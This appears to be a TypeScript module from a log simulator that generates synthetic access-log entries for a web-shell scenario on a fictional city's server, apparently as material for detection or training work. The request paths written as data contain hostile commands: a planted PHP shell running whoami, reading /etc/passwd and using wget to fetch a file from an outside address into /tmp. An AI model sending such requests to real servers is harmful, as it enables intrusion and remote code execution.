import { webServers } from '../city.js';
import { accessRecord } from '../records.js';
import { type Attack, second } from './attack.js';

type Step = readonly [afterSeconds: number, method: string, path: string, status: number, bytes: number];

const steps: readonly Step[] = [
  [0, 'GET', '/portal/antraege/anhang', 200, 8123],
  [40, 'POST', '/portal/antraege/anhang', 302, 0],
  [12, 'GET', '/fileadmin/uploads/wappen.php', 200, 12],
  [20, 'GET', '/fileadmin/uploads/wappen.php?cmd=whoami', 200, 9],
  [15, 'GET', '/fileadmin/uploads/wappen.php?cmd=cat%20/etc/passwd', 200, 2210],
  [30, 'GET', '/fileadmin/uploads/wappen.php?cmd=wget%20http://198.51.100.23/x%20-O%20/tmp/x', 200, 0],
];

/** A script is uploaded as an attachment and then used to run commands. */
export const webShell: Attack = {
  id: 'web-shell',
  records(start, random) {
    const host = webServers[0]!;
    const client = `198.51.100.${random.int(20, 29)}`;
    const agent = 'python-requests/2.32.5';
    let time = start;
    return steps.map(([after, method, path, status, bytes]) => {
      time += after * second;
      return accessRecord(time, host, { client, method, path, status, bytes, agent });
    });
  },
};
